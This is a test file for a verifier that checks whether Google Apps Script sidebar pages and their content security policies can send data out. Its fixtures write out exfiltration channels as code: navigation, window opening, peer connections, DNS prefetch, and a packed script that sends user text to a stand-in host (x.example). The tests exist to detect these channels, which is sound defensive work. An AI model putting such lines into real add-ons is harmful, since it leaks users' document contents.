import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { ClaimId } from '@crenwiz/policy'
import { expect, test } from 'vitest'
import { verify } from '../../src/verify.ts'

/** A script that counts as a bundle: long, on one line. */
const bundle = (code = '') => `(()=>{${code};var t=[${'"word","of","a","library",'.repeat(1_200)}0]})()`

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

const strict = (scripts: string) =>
  `default-src 'none'; script-src ${scripts}; worker-src blob:; img-src blob: data:; base-uri 'none'; form-action 'none'`

const policyScript = (policy: string) =>
  `<script>const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = ${JSON.stringify(policy)}; document.head.append(m)</script>`

function page(script: string, policy = strict(hashOf(script)), before = ''): string {
  return `<!doctype html><html><head>${before}${policy === '' ? '' : policyScript(policy)}<title>x</title></head><body>
<script>${script}</script></body></html>`
}

const server = `function onOpen() { DocumentApp.getUi().showModalDialog(HtmlService.createHtmlOutputFromFile('side'), 'x') }
function save(text) { PropertiesService.getDocumentProperties().setProperty('kept', String(text)) }
`

interface Project {
  readonly side: string
  readonly code?: string
  readonly files?: Readonly<Record<string, string>>
  readonly scopes?: readonly string[]
}

const scope = 'https://www.googleapis.com/auth/documents.currentonly'

/** What the verifier says of the claims that rest on a page that can't send. */
async function judged({ side, code = server, files = {}, scopes = [scope] }: Project) {
  const folder = await mkdtemp(join(tmpdir(), 'page-policy-'))
  try {
    const manifest = {
      timeZone: 'Etc/UTC',
      runtimeVersion: 'V8',
      exceptionLogging: 'NONE',
      oauthScopes: scopes,
    }
    const all = { 'appsscript.json': JSON.stringify(manifest), 'Code.gs': code, 'side.html': side, ...files }
    for (const [name, text] of Object.entries(all)) await writeFile(join(folder, name), text)
    const { claims } = await verify(folder, { isStatic: true })
    const of = (id: ClaimId) => {
      const judgement = claims.find(({ claim }) => claim.id === id)?.judgement
      if (judgement?.verdict === 'UNPROVEN')
        return `UNPROVEN ${[...new Set(judgement.gaps.map((gap) => `${gap.code} ${gap.at?.file ?? ''}:${gap.at?.line ?? ''}`))].sort().join(', ')}`
      if (judgement?.verdict === 'BROKEN')
        return `BROKEN ${judgement.findings.map((one) => one.code).join(', ')}`
      return judgement?.verdict
    }
    return { C1: of('C1'), C4: of('C4'), C7: of('C7'), C8: of('C8') }
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

const proven = { C1: 'PROVEN', C4: 'PROVEN', C7: 'PROVEN', C8: 'PROVEN' }
const everywhere = (gaps: string) => ({ C1: gaps, C4: gaps, C7: gaps, C8: expect.anything() })

test('a bundle whose page forbids itself to send, and lets no other script run, is closed', async () => {
  expect(await judged({ side: page(bundle()) })).toEqual(proven)
})

test('a bundle that makes no scripts of texts is closed by a policy that lets inline scripts run', async () => {
  expect(await judged({ side: page(bundle(), strict("'unsafe-inline'")) })).toEqual(proven)
})

test('without a policy a bundle keeps the page open', async () => {
  expect(await judged({ side: page(bundle(), '') })).toEqual(
    everywhere('UNPROVEN BUNDLE_IN_PAGE side.html:2'),
  )
})

test('a policy behind another script proves nothing, and the report says at which line', async () => {
  const side = page(bundle(), undefined, '\n<script>var first = 1</script>\n')
  expect((await judged({ side })).C7).toBe(
    'UNPROVEN BUNDLE_IN_PAGE side.html:4, PAGE_POLICY_OPEN side.html:3',
  )
})

test('a policy that names the page’s own host proves nothing', async () => {
  const side = page(bundle(), strict("'unsafe-inline' 'self'"))
  expect((await judged({ side })).C4).toContain('PAGE_POLICY_OPEN side.html:1')
})

test('a policy in the markup is dropped at Google and proves nothing', async () => {
  const tag = `<meta http-equiv="Content-Security-Policy" content="${strict("'unsafe-inline'")}">`
  expect((await judged({ side: page(bundle(), '', tag) })).C1).toContain('PAGE_POLICY_OPEN side.html:1')
})

const past: readonly (readonly [what: string, code: string, gap: string])[] = [
  ['goes to another address', 'location.href=u', 'NAVIGATES'],
  ['opens a window', 'window.open(u)', 'OPENS_WINDOW'],
  ['clicks what may be a link', 'a.click()', 'CLICKS_LINK'],
  ['connects to another browser', 'new RTCPeerConnection(c)', 'PEER_CONNECTION'],
  ['lets a host be looked up', 'l.rel="dns-prefetch"', 'RESOLVES_HOST'],
]

for (const [what, code, gap] of past)
  test(`a bundle that ${what} keeps the page open by name`, async () => {
    expect(await judged({ side: page(bundle(code)) })).toEqual(everywhere(`UNPROVEN ${gap} side.html:2`))
  })

const engine = 'globalThis.engine = { draw: () => 1 }'
const packed = (text: string) => gzipSync(text).toString('base64')
const loading = 'var s=document.createElement("script");s.textContent=g;document.head.append(s)'

test('a script made of a text keeps the page open where the policy lets any run', async () => {
  const side = page(bundle(loading), strict("'unsafe-inline'"))
  expect(await judged({ side, files: { 'engine-0.html': packed(engine) } })).toEqual({
    ...everywhere('UNPROVEN TEXT_BECOMES_SCRIPT side.html:2'),
    C8: 'UNPROVEN TEXT_BECOMES_SCRIPT side.html:2',
  })
})

test('a script made of a text that the policy names by its hash, and that lies packed in the project, is read', async () => {
  const script = bundle(loading)
  const side = page(script, strict(`${hashOf(script)} ${hashOf(engine)}`))
  const letters = packed(engine)
  const files = { 'engine-0.html': letters.slice(0, 24), 'engine-1.html': letters.slice(24) }
  expect(await judged({ side, files })).toEqual(proven)
  expect((await judged({ side })).C1).toBe('UNPROVEN SCRIPT_HASH_UNKNOWN side.html:1')
})

test('what a packed script names is found', async () => {
  const script = bundle(loading)
  const opening = 'globalThis.engine = { draw: (text) => open("https://x.example/?" + text) }'
  const storing = 'globalThis.engine = { draw: (text) => { localStorage.last = text } }'
  const judgedWith = (text: string) =>
    judged({
      side: page(script, strict(`${hashOf(script)} ${hashOf(text)}`)),
      files: { 'engine-0.html': packed(text) },
    })
  expect((await judgedWith(opening)).C7).toBe('UNPROVEN OPENS_WINDOW engine-0.html:1')
  expect(await judgedWith(storing)).toMatchObject({
    C7: 'PROVEN',
    C8: expect.stringMatching(/^UNPROVEN BUNDLE_NAMES_STORAGE/),
  })
})

test('what a closed page may give to a function counts: it may be anything', async () => {
  const logging = `${server}function note(text) { console.log(text) }\n`
  expect((await judged({ side: page(bundle()), code: logging })).C1).toBe(
    'UNPROVEN UNKNOWN_DATA_ARRIVES Code.gs:3',
  )
})

test('what a function answered may come back from a closed page', async () => {
  const code = `${server}function who() { return Session.getActiveUser().getEmail() }
function keep(text) { PropertiesService.getUserProperties().setProperty('who', text) }
`
  const scopes = [scope, 'https://www.googleapis.com/auth/userinfo.email']
  expect((await judged({ side: page(bundle()), code, scopes })).C1).toContain(
    'DATA_PERHAPS_ARRIVES Code.gs:4',
  )
})

test('a page that is put together of texts may have something before its policy', async () => {
  const code = `function onOpen() {
  const text = HtmlService.createHtmlOutputFromFile('side').getContent()
  DocumentApp.getUi().showModalDialog(HtmlService.createHtmlOutput('<p>' + text), 'x')
}
`
  expect((await judged({ side: page(bundle()), code })).C7).toContain('PAGE_PUT_TOGETHER Code.gs:3')
})

test('what was printed into a closed page may come back from it', async () => {
  const code = `function onOpen() {
  const page = HtmlService.createHtmlOutputFromFile('side').append('<i>').appendUntrusted(Session.getActiveUser().getEmail()).append('</i>')
  DocumentApp.getUi().showModalDialog(page, 'x')
}
function keep(text) { PropertiesService.getUserProperties().setProperty('who', text) }
`
  const scopes = [scope, 'https://www.googleapis.com/auth/userinfo.email']
  expect((await judged({ side: page(bundle()), code, scopes })).C1).toContain(
    'DATA_PERHAPS_ARRIVES Code.gs:5',
  )
})

test('markup that is put behind a page may be a script where the policy lets any run', async () => {
  const code = `function onOpen() {
  const page = HtmlService.createHtmlOutputFromFile('side').append(DocumentApp.getActiveDocument().getName())
  DocumentApp.getUi().showModalDialog(page, 'x')
}
`
  const open = await judged({ side: page(bundle(), strict("'unsafe-inline'")), code })
  expect(open.C7).toBe('UNPROVEN TEXT_BECOMES_SCRIPT Code.gs:2')
  expect((await judged({ side: page(bundle()), code })).C7).toBe('PROVEN')
})
